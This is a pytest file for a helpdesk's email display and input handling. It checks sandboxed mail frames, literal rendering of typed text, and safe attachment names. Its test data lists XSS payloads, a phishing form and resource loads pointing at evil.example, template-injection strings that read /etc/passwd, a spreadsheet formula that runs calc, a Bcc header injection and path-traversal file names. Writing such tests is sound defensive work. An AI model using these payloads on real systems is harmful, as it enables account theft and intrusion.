"""Nothing from outside runs, loads or leaves the frame; nothing typed becomes markup, a header or a template."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest

from channels.email.frame import document

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/t.gif' srcset='https://evil.example/2x.gif 2x'>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "<form action='https://evil.example'><input name=password><button>Войти</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><a href=x>x</a>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
    "<div style='background:url(https://evil.example/z);position:fixed;inset:0'>поверх</div>",
    "<a href='javascript:alert(1)'>a</a><a href=' java\nscript:alert(1)'>b</a>",
    "<a href='data:text/html,<script>1</script>'>c</a>",
    "<a href='https://evil.example/login' target=_top>https://bank.example</a>",
    "<video src='https://evil.example/v' poster='https://evil.example/p'></video><audio src=x onerror=alert(1)>",
    "<table background='https://evil.example/b'><tr><td background='https://evil.example/c'>x</td></tr></table>",
    "<input type=image src='https://evil.example/i' autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><img src=cid:missing onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]

SAFE_TAG = re.compile(
    r"<(?:!doctype html|/?(?:html|head|title|style|body|p|a|b|i|u|br|hr|div|span|table|tbody|thead|tfoot|tr|td|th|pre"
    r"|ul|ol|li|blockquote|details|summary|font|center|em|strong|h[1-6]|dl|dt|dd|s|q|caption|col|colgroup)\b[^<>]*"
    r"|meta charset=\"utf-8\"|img\b[^<>]*)>"
)


def mail(html: str) -> bytes:
    """A mail of nothing but this HTML."""
    return b"From: eva@x.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()


@pytest.mark.parametrize("html", HOSTILE)
def test_a_frame_holds_nothing_that_runs_loads_or_leads_away(html: str) -> None:
    shown = document(mail(f"<p>до</p>{html}<p>после</p>"))
    inside = shown.partition("<body")[2]
    assert not re.search(
        r"<[^>]*\s(?:on\w+|href|srcset|action|formaction|background|poster|style|target)\s*=", inside, re.I
    )
    assert not re.search(r"""\ssrc\s*=\s*["']?(?!data:image/(?:png|jpeg|gif|webp|bmp);base64,)""", inside, re.I)
    left = SAFE_TAG.sub("", shown)
    assert not re.search(r"<[a-zA-Z!/]", left), left


def test_pictures_come_from_the_mail_itself_and_links_say_where_they_lead() -> None:
    raw = (
        b'From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n'
        b'--x\r\nContent-Type: text/html\r\n\r\n<img src="cid:p@x"><img src="cid:q@x" alt="no"><a href="https://a.example/">b</a>\r\n'
        b"--x\r\nContent-Type: image/png\r\nContent-ID: <p@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(PNG)
        + b"\r\n--x\r\nContent-Type: image/svg+xml\r\nContent-ID: <q@x>\r\n\r\n<svg onload='alert(1)'/>\r\n--x--\r\n"
    )
    shown = document(raw)
    assert f"data:image/png;base64,{base64.b64encode(PNG).decode()}" in shown
    assert "svg" not in shown
    assert "[no]" in shown
    assert "<a>b</a> [https://a.example/]" in shown


async def test_the_frame_has_an_address_and_a_policy_of_its_own(console: Any) -> None:
    accepted = await console.mail("<p>Привет</p><script>alert(1)</script>", kind="text/html")
    browser = await console.browser()
    page = await browser.get(f"/tickets/{accepted.number}")
    view = await console.ticket(accepted.number)
    where = f"/tickets/{accepted.number}/messages/{view['messages'][0]['id']}/frame"
    assert re.search(rf'<iframe class="mail-frame" sandbox [^>]*src="{where}"', page.html)
    frame = await browser.get(where)
    policy = frame.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none'; img-src data:;")
    assert "allow-" not in policy
    assert "unsafe" not in policy
    assert "Привет" in frame.text
    assert frame.headers["X-Content-Type-Options"] == "nosniff"
    own = page.headers["Content-Security-Policy"]
    assert "frame-src 'self'" in own
    assert "script-src 'self'" in own
    stranger = await console.browser("b.volkov")
    stranger.cookies.clear()
    assert (await stranger.get(where)).status == 303


@pytest.mark.parametrize(
    "string",
    [
        "{{7*'7'}}",
        '{% include "/etc/passwd" %}',
        "{0.__class__}",
        "${7*7} <%= 7*7 %> #{7*7}",
        "</textarea><script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "x\r\nBcc: victim@x.example",
        "\u202etxt.exe \u0007 \ufffe",
    ],
)
async def test_whatever_is_typed_or_sent_is_literal(console: Any, string: str) -> None:
    flat = " ".join(string.split())
    accepted = await console.mail(string.replace("\r\n", "\n"), subject=flat)
    browser = await console.browser()
    here = f"/tickets/{accepted.number}"
    answer = await browser.answer(accepted.number, string)
    assert answer.status == 303
    page = await browser.get(f"{here}?mode=comment")
    await browser.send(f"{here}/messages", page, mode="comment", text=string)
    await browser.post(f"{here}/classify", at=here, category=string[:60])
    await browser.post("/canned", at="/canned", title=flat, text=string, language="")
    await browser.post(
        "/tickets/new",
        at="/tickets/new",
        channel="desk",
        contact="a@b.example",
        name=string,
        subject=string,
        text=string,
    )
    for path in (
        here,
        f"{here}?all=1&mode=reply",
        f"{here}/together",
        f"{here}/split",
        "/canned",
        "/deliveries?tab=all",
    ):
        page = await browser.get(path)
        assert page.status == 200, path
        assert (
            "alert(1)>" not in page.html.replace("&gt;", ">").replace("&#34;", '"') or "<script>alert" not in page.html
        )
        assert "<img src=x" not in page.html
        assert "<script>alert" not in page.html
        assert "7777777" not in page.text
        assert "root:" not in page.text
    shown = (await browser.get(here)).text
    assert "".join(c for c in flat if c.isprintable()).split()[0] in shown
    view = await console.ticket(accepted.number)
    way = next(n for n in view["notifications"] if n["event"] == "public_comment")["deliveries"][0]
    assert way["address"] == "irina@sibtrans.example"


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", 'a".html', "счёт «за» ноябрь.pdf", "x\u202efdp.exe", "CON", ".htaccess"]
)
async def test_files_are_downloads_with_harmless_names(console: Any, name: str) -> None:
    part = (
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain\n\nВот\n--x\n'
        f"Content-Type: text/html\nContent-Disposition: attachment; filename*=UTF-8''{_percent(name)}\n\n"
        "<script>alert(1)</script>\n--x--\n"
    )
    raw = f"From: irina@sibtrans.example\nSubject: x\nMessage-ID: <{abs(hash(name))}@x.example>\n{part}".encode()
    accepted = await console.mail(raw=raw)
    browser = await console.browser()
    (file,) = (await console.ticket(accepted.number))["messages"][0]["attachments"]
    got = await browser.get(f"/tickets/{accepted.number}/files/{file['id']}")
    assert got.headers["Content-Type"] == "application/octet-stream"
    assert got.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    disposition = got.headers["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="[A-Za-z0-9 ._()-]+"; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+', disposition
    )
    assert "%2F" not in disposition
    assert "\u202e" not in disposition
    other = await console.mail("другая", subject="другая", sender="eva@x.example")
    assert (await browser.get(f"/tickets/{other.number}/files/{file['id']}")).status == 404, "another ticket's file"


def _percent(name: str) -> str:
    return "".join(f"%{octet:02X}" for octet in name.encode())
